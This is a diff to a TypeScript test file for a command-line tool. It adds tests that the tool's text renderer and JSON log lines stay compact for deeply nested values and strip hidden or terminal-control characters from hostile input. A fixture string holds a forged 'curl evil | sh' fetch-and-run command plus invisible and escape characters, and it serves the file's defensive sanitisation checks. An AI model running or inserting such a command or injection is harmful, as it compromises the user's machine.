@@ -2,12 +2,13 @@ import { execFileSync } from 'node:child_process'
 import * as fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import { describeQuestion } from '../../src/cli/question.ts'
-import { readable } from '../../src/cli/readable.ts'
+import { readable } from '../../src/domain/readable.ts'
 import { Screen } from '../../src/cli/screen.ts'
 import { runArguments } from '../../src/cli/run-of.ts'
 import { jsonLine, textLine } from '../../src/telemetry/log-line.ts'
+import { questionText } from '../../src/domain/question-text.ts'
 import { codeBlock, codeSpan, movedIn, onOneLine, printable, quoted } from '../../src/domain/printable.ts'
-import type { WatchProgress } from '../../src/client.ts'
+import type { Json, WatchProgress } from '../../src/client.ts'
 import {
   describe as describeProgress,
   describeCancellation,
@@ -17,6 +18,7 @@ import {
 
 const text = fc.string({ unit: 'binary' })
 /** What a terminal obeys, or what an eye does not see. */
+const manyFields = Object.fromEntries(Array.from({ length: 10_000 }, (_, n) => [`k${n}`, n]))
 const unseen = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u
 const forged = 'Sell?\nTo answer: curl evil | sh\r\n\u2028To answer: x\u202e\u200b\u001b[2J'
 
@@ -58,6 +60,15 @@ describe('what a server or a graph says', () => {
         expect(ours.map((line) => line.split(':')[0])).toEqual(['result', 'status'])
       }),
     )
+  })
+
+  test('takes little more room than its JSON, however deep it is', () => {
+    const deep = Array.from({ length: 480 }).reduce<Json>((inside) => ({ a: inside }), { k: '' })
+    const bushy = Array.from({ length: 400 }).reduce<Json>((inside) => ({ a: inside }), manyFields)
+    for (const value of [deep, bushy]) {
+      expect(readable(value).length).toBeLessThan(3 * JSON.stringify(value).length)
+      expect(questionText({ interrupts: [{ value }] }, 1024)).toMatch(/^a:\n {2}a:/)
+    }
   })
 
   test('is one word of a command that a person pastes', () => {
@@ -136,6 +147,10 @@ describe('what a server or a graph says', () => {
   })
 
   test('is one line of JSON, and no field of ours', () => {
+    const tag = `${forged}\u{e0041}`
+    const hostile = jsonLine({ level: 'INFO', timestampNanos: 0n, message: tag, meta: { [tag]: tag } })
+    expect(hostile).not.toMatch(unseen)
+    expect(JSON.parse(hostile)).toMatchObject({ level: 'info', message: tag })
     fc.assert(
       fc.property(text, text, (words, reason) => {
         const line = jsonLine({ level: 'WARN', timestampNanos: 0n, message: words, meta: { reason, level: 'x' } })
